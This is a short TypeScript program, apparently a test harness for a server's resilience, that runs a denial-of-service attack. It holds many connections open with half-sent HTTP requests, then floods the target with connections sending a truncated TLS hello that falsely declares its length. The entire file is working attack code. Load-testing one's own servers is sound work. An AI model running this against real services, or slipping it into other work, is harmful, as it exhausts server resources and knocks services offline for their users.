// A program that wants more than its share: opens many connections that never finish asking, then goes on to open others,
// say something like a TLS hello and break them off, as fast as it can.
// Arguments: address, port, connections. Lines out: `open <n>`, and when its input ends `flooded <n>`.

import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setImmediate as turn } from 'node:timers/promises'

const [host = '', port = '', count = ''] = process.argv.slice(2)
/** Under way at once. */
const ABREAST = 100
const HALF_A_REQUEST = 'GET / HTTP/1.1\r\nHost: app\r\nX-Half: '
/** A handshake record that says it holds 512 bytes, and does not. */
const HALF_A_HELLO = Buffer.concat([Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]), Buffer.alloc(200, 7)])

async function open(): Promise<Socket | null> {
  const socket = connect({ host, port: Number(port) })
  socket.on('error', () => {})
  await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => {})
  return socket.destroyed ? null : socket
}

async function abreast(run: () => Promise<boolean>): Promise<void> {
  const line = async (): Promise<void> => {
    while (await run());
  }
  await Promise.all(Array.from({ length: ABREAST }, line))
}

const stalled: Socket[] = []
let begun = 0
await abreast(async () => {
  if (begun >= Number(count)) return false
  begun++
  const socket = await open()
  if (socket === null) return true
  socket.write(HALF_A_REQUEST)
  stalled.push(socket)
  return true
})
console.log(`open ${stalled.length}`)

let isOver = false
let flooded = 0
process.stdin.resume().on('end', () => (isOver = true))
await abreast(async () => {
  const socket = await open()
  socket?.end(HALF_A_HELLO)
  socket?.destroySoon()
  flooded++
  await turn()
  return !isOver
})
console.log(`flooded ${flooded}`)
process.exit()
